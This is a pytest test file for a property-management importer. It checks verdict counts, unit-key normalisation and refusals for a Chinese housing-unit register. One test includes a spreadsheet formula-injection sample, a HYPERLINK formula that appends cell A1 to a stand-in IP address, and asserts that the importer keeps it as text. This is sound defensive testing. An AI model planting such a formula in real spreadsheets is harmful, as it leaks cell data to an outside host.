"""The list of units, checked against what the people who keep it expect of every row."""

from collections import Counter
from pathlib import Path

import pytest

from gongdan.domain.cells import Cell
from gongdan.domain.headings import NumberedRow
from gongdan.domain.importing import RowVerdict
from gongdan.domain.row_checks import check_rows
from gongdan.domain.verdicts import Reason
from gongdan_property_mgmt.importers import UNITS
from tests.plugins.property_mgmt.expectations import DEMO, check_file, expected_rows, reported

FILE = "房屋台账.xlsx"
HEADINGS: list[Cell] = ["楼栋", "单元", "房号", "业主姓名", "电话"]


def test_every_row_of_the_list_gets_the_verdict_reasons_changes_and_values_that_are_expected() -> None:
    rows = check_file(UNITS, DEMO / FILE, {})
    assert [reported(UNITS, row) for row in rows] == expected_rows(FILE)


def test_the_verdicts_add_up_to_the_rows_of_the_sheet() -> None:
    counts = Counter(row.verdict for row in check_file(UNITS, DEMO / FILE, {}))
    assert counts == {
        RowVerdict.OK: 655,
        RowVerdict.NORMALISED: 468,
        RowVerdict.FLAGGED: 65,
        RowVerdict.REFUSED: 16,
        RowVerdict.NOT_A_ROW: 4,
    }


@pytest.mark.parametrize(
    ("cells", "key"),
    [
        (["3栋", "2单元", "501"], "3-2-501"),
        (["三号楼", "二单元", "０５０１"], "3-2-501"),
        (["3#", "", "501室"], "3-501"),
        (["A座", "1", "1203"], "A-1-1203"),
        (["紫荆阁", "1单元", "302"], "紫荆阁-1-302"),
        ([3.0, 2.0, 501.0], "3-2-501"),
        (["", "", "3-2-501"], "3-2-501"),
        (["3栋", "2单元", "3栋2单元501"], "3-2-501"),
        (["3栋", "2单元", "101-A"], "3-2-101-A"),
    ],
)
def test_every_way_to_write_a_unit_gives_one_key(cells: list[Cell], key: str) -> None:
    rows: list[NumberedRow] = [(1, HEADINGS), (2, [*cells, "张三", "13800138000"])]
    row = list(check_rows(UNITS, rows, {}).rows)[1]
    assert row.key == key
    assert row.taken


def test_a_unit_without_building_is_refused_and_says_so() -> None:
    rows: list[NumberedRow] = [(1, HEADINGS), (2, ["", "2单元", "501", "张三", ""])]
    row = list(check_rows(UNITS, rows, {}).rows)[1]
    assert (row.verdict, row.reasons, row.key) == (RowVerdict.REFUSED, (Reason.MISSING_REQUIRED,), None)
    assert row.issues[0].column == "building"


def test_a_file_with_hostile_texts_is_taken_as_text() -> None:
    rows = check_file(UNITS, Path(__file__).parents[2] / "data" / "公式注入.xlsx", {})
    assert [row.verdict for row in rows[1:]] == [RowVerdict.OK] * 4
    assert rows[1].values["remark"] == '=HYPERLINK("http://192.0.2.1/"&A1,"点我")'
